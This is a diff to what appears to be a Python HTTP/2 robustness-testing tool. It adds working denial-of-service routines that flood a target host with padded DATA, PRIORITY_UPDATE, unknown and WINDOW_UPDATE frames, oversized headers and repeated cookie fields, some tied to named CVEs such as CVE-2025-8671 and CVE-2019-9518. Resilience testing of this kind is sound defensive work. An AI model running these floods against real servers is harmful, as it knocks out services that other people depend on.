@@ -20,7 +20,8 @@ import hpack
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = 0, 1, 2, 3, 4
 PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 5, 6, 7, 8, 9
-END_STREAM, ACK, END_HEADERS = 1, 1, 4
+PRIORITY_UPDATE, UNKNOWN = 0x10, 0xee
+END_STREAM, ACK, END_HEADERS, PADDED = 1, 1, 4, 8
 QUIET_S = 2.0          # how long an answer may take
 
 
@@ -40,6 +41,7 @@ class Peer:
         self.closed, self.goaway = False, None
         self.answers = self.acks = 0
         self.resets = collections.Counter()
+        self.quiet_s = QUIET_S
         if preface:
             self.send(PREFACE + frame(SETTINGS))
 
@@ -91,7 +93,7 @@ class Peer:
     def settle(self):
         """Reads until the server hangs up or says nothing for a while."""
         self.socket.setblocking(False)
-        while not self.closed and select.select([self.socket], [], [], QUIET_S)[0]:
+        while not self.closed and select.select([self.socket], [], [], self.quiet_s)[0]:
             self.receive()
 
     def block(self, path="/", extra=()):
@@ -266,9 +268,57 @@ def more_streams_than_allowed(host):
     return peer
 
 
+def resets_made_by_us(host):
+    """CVE-2025-8671: whatever makes the server reset costs as much as a reset."""
+    peer = Peer(host)
+    for stream in range(1, 10001, 2):
+        peer.send(peer.get(stream, "/slow?ms=100")
+                  + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)))
+        if peer.closed:
+            break
+    return peer
+
+
+def padding_flood(host):
+    """CVE-2019-9518, with padding."""
+    peer = Peer(host)
+    peer.send(peer.get(1, "/echo", flags=END_HEADERS))
+    peer.send(frame(DATA, PADDED, 1, b"\3\0\0\0") * 5000)
+    return peer
+
+
+def priority_update_flood(host):
+    peer = Peer(host)
+    peer.send(frame(PRIORITY_UPDATE, 0, 0, struct.pack(">I", 1) + b"u=1, i") * 10000)
+    return peer
+
+
+def unknown_frame_flood(host):
+    peer = Peer(host)
+    peer.send(frame(UNKNOWN, 0, 0, b"?") * 10000)
+    return peer
+
+
+def many_fields(host):
+    """Cookie crumbs: little to send, much to keep."""
+    peer = Peer(host)
+    for stream in range(1, 41, 2):
+        peer.send(peer.get(stream, extra=[("cookie", "a")] * 200))
+    return peer
+
+
+def much_header_memory(host):
+    """Every request is all right by itself."""
+    peer = Peer(host)
+    for stream in range(1, 101, 2):
+        peer.send(peer.get(stream, "/slow?ms=1000", extra=[("x-large", "v" * 12000)]))
+    return peer
+
+
 def a_window_that_never_opens(host):
     """CVE-2019-9511: wants much, takes nothing."""
     peer = Peer(host)
+    peer.quiet_s = 15
     peer.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
     for stream in range(1, 201, 2):
         peer.send(peer.get(stream, "/bytes?n=1000000"))
@@ -288,7 +338,9 @@ VIOLATIONS = (http1_instead_of_a_preface, a_frame_before_settings, a_frame_that_
               a_push_promise_from_a_client)
 BURDENS = (rapid_reset, continuation_flood, ping_flood, settings_flood, empty_data_flood,
            priority_flood, window_update_flood, hpack_bomb, huge_headers,
-           more_streams_than_allowed, a_window_that_never_opens, half_a_preface)
+           more_streams_than_allowed, a_window_that_never_opens, half_a_preface,
+           resets_made_by_us, padding_flood, priority_update_flood, unknown_frame_flood,
+           many_fields, much_header_memory)
 ATTACKS = {attack.__name__: attack for attack in VIOLATIONS + BURDENS}
 
 
